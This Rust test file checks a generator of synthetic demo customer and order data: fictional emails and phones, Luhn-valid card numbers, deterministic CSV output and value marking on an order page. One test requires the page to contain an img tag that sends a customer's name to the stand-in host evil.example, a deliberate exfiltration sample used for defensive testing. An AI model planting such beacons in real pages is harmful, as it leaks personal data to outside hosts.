//! What the samples promise: nobody's data, awkward on purpose, the same every time, readable by any CSV reader.

use std::collections::{BTreeMap, BTreeSet};

use super::*;

fn customers(rows: u64) -> Vec<people::Customer> {
    (0..rows).map(|index| people::customer(SEED, index)).collect()
}

fn records(bytes: &[u8]) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(bytes).records().collect::<Result<_, _>>().unwrap()
}

fn is_luhn_valid(number: &str) -> bool {
    let digits = number.chars().rev().map(|digit| digit.to_digit(10).unwrap());
    let doubled = |(index, digit): (usize, u32)| if index % 2 == 0 { digit } else { digit * 2 / 10 + digit * 2 % 10 };
    digits.enumerate().map(doubled).sum::<u32>() % 10 == 0
}

/// Negative control first: the check digit is looked at.
#[test]
fn every_card_is_luhn_valid() {
    assert!(!is_luhn_valid("4242424242424241"));
    for number in pools::CARDS {
        assert!(is_luhn_valid(number), "{number}");
        assert!((12..=19).contains(&number.len()), "{number}");
    }
}

/// No mail of a demo can reach anybody.
#[test]
fn every_email_is_in_a_reserved_domain() {
    for customer in customers(CUSTOMERS) {
        let (_, domain) = customer.email.rsplit_once('@').unwrap();
        let reserved = ["example.com", "example.net", "example.org"].contains(&domain) || domain.ends_with(".example");
        assert!(reserved, "{}", customer.email);
    }
}

/// No telephone rings: every number has a row of zeros, or is in a range that is kept for fiction.
#[test]
fn every_phone_is_fictional() {
    for customer in customers(CUSTOMERS) {
        let phone = &customer.phone;
        let drama = phone.starts_with("+1-202-555-01") || phone.starts_with("+44 20 7946 0");
        assert!(phone.is_empty() || drama || phone.contains("-0") || phone.contains(" 0"), "{phone}");
    }
}

/// The same seed gives the same bytes, another seed others.
#[test]
fn the_generator_is_deterministic() {
    assert_eq!(files().unwrap(), files().unwrap());
    assert_ne!(people::customer(SEED, 7), people::customer(SEED + 1, 7));
}

/// A row doesn't depend on how many follow, and every row has its own customer.
#[test]
fn a_large_file_begins_like_a_small_one() {
    let (mut small, mut large) = (Vec::new(), Vec::new());
    write_customers(&mut small, 100).unwrap();
    write_customers(&mut large, 20_000).unwrap();
    assert!(large.starts_with(&small));
    let ids: BTreeSet<_> = records(&large).iter().map(|record| record[0].to_owned()).collect();
    assert_eq!(ids.len(), 20_000);
}

/// What is read back from the CSV is what was written, line breaks and quotes included.
#[test]
fn customers_parse_back() {
    let mut bytes = Vec::new();
    write_customers(&mut bytes, CUSTOMERS).unwrap();
    let records = records(&bytes);
    assert_eq!(records.len() as u64, CUSTOMERS);
    for (record, customer) in records.iter().zip(customers(CUSTOMERS)) {
        assert!(record.iter().eq(customer.cells()), "{record:?}");
    }
}

/// Orders parse back, belong to customers that exist, and both people of the demo have some.
#[test]
fn orders_belong_to_customers() {
    let mut bytes = Vec::new();
    write_orders(&mut bytes).unwrap();
    let known: BTreeSet<_> = (0..CUSTOMERS).map(people::id).collect();
    let mut orders: BTreeMap<String, u32> = BTreeMap::new();
    for (index, record) in (0..).zip(records(&bytes)) {
        assert!(record.iter().eq(orders::order(SEED, index, CUSTOMERS).cells()), "{record:?}");
        assert!(known.contains(&record[1]), "{}", &record[1]);
        *orders.entry(record[1].to_owned()).or_default() += 1;
    }
    assert_eq!(u64::from(orders.values().sum::<u32>()), ORDERS);
    assert!(orders["alice"] >= 2 && orders["bob"] >= 2);
}

/// A value of more than 1022 bytes cannot be sealed; the samples keep well below.
#[test]
fn every_value_can_be_sealed() {
    for customer in customers(CUSTOMERS) {
        assert!(customer.cells().iter().all(|cell| cell.len() <= 1_022), "{customer:?}");
    }
}

/// The hard cases are in the file, not only in the pools.
#[test]
fn every_awkward_value_occurs() {
    let customers = customers(CUSTOMERS);
    for name in pools::AWKWARD_NAMES {
        assert!(customers.iter().any(|customer| customer.name == *name), "{name:?}");
    }
    for address in pools::AWKWARD_ADDRESSES {
        assert!(customers.iter().any(|customer| customer.postal_address == *address), "{address:?}");
    }
    assert!(customers.iter().any(|customer| customer.name.contains("葛\u{e0100}")));
    assert!(customers.iter().any(|customer| customer.phone.is_empty()));
}

/// Schemas name columns that exist, and never the owner's, which must stay readable.
#[test]
fn schemas_name_columns_of_their_files() {
    for (fields, columns) in [(people::FIELDS, people::COLUMNS), (orders::FIELDS, orders::COLUMNS)] {
        assert!(columns.contains(&OWNER));
        assert!(fields.iter().all(|(column, _)| columns.contains(column) && *column != OWNER));
    }
    let text = String::from_utf8(schema("orders.csv", orders::FIELDS)).unwrap();
    assert!(
        text.contains("tenant = \"shop-17\"\nowner = \"customer_id\"\n\n[fields]\nship_to_name = \"person-name\"\n")
    );
}

/// There is no column for a security code, under any of its names.
#[test]
fn no_column_holds_a_security_code() {
    for column in people::COLUMNS.iter().chain(&orders::COLUMNS) {
        assert!(["cvv", "cvc", "cid", "cav", "security"].iter().all(|word| !column.contains(word)), "{column}");
    }
}

/// A file that was changed by hand is found, and the message says where.
#[test]
fn check_finds_a_changed_file() {
    let root = std::env::temp_dir().join(format!("symbolon-samples-{}", std::process::id()));
    write(&root).unwrap();
    check(&root).unwrap();
    let path = root.join(FOLDER).join("orders.csv");
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, text.replacen("o-000002", "o-900002", 1)).unwrap();
    let message = check(&root).unwrap_err().to_string();
    fs::remove_dir_all(&root).unwrap();
    assert!(message.contains("orders.csv differs at line 3"), "{message}");
}

/// The page that is written by hand: each protected value is the whole text of a marked element, and nothing is marked beside
/// them; the hostile message is in it, and the page loads nothing else from outside.
#[test]
fn the_order_page_marks_whole_values_only() {
    let page = fs::read_to_string(crate::root().join(FOLDER).join("order-page.html")).unwrap();
    let protected = ["ship_to_name", "ship_to_address", "order_line", "card_number", "email"];
    for column in protected {
        assert!(page.contains(&format!(" data-symbolon=\"demo\">{{{{{column}}}}}</")), "{column}");
    }
    assert_eq!(page.matches("data-symbolon=\"demo\"").count(), protected.len());
    for column in ["order_id", "placed_on", "amount_jpy", "status"] {
        assert!(page.contains(&format!("{{{{{column}}}}}")), "{column}");
    }
    assert!(page.contains("<img alt=\"\" src=\"https://evil.example/?q={{ship_to_name}}\">"));
    assert_eq!(page.matches("://").count(), page.matches("https://evil.example/").count());
}
